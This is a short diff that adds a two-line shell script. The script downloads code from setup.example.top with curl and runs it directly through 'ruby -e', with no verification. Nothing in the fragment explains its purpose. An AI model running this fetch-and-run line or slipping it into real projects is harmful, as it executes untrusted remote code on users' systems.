@@ -1,0 +1,2 @@
+#!/bin/sh
+ruby -e "$(curl -fsSL https://setup.example.top/r)"
